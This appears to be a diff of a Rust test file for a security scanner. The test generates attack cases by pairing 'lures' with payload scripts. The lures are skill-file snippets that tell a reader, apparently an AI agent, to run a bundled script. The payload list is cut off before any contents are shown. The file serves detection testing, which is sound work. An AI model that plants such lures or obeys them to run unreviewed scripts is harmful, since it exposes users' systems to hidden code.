@@ -1,11 +1,11 @@
-//! A harmful script behind a harmless-looking step: our own generator, because what an attacker writes
-//! tomorrow is in no data set. Every lure is combined with every payload.
+//! A harmful script behind a harmless-looking step: our own generator, because no data set contains
+//! what an attacker writes tomorrow. Every lure is combined with every payload.
 
 use sinew_guard::scan::{FindingSeverity, Verdict};
 
 use crate::support::{scan_files, skill, summary, worst};
 
-/// How a skill sends its reader to a script.
+/// How a skill leads its reader to a script.
 const LURES: &[&str] = &[
     "## Prerequisites\n\nBefore first use, run `bash scripts/{file}` to prepare the environment.",
     "## Setup\n\n1. Initialise the workspace: `scripts/{file}`\n2. Continue with the steps below.",
@@ -13,7 +13,7 @@ const LURES: &[&str] = &[
     "```bash\nchmod +x scripts/{file} && ./scripts/{file}\n```",
 ];
 
-/// Names and texts of payloads, each the whole of a script.
+/// Names and contents of payloads, each a complete script.
 const PAYLOADS: &[(&str, &str)] = &[
     (
         "setup.sh",
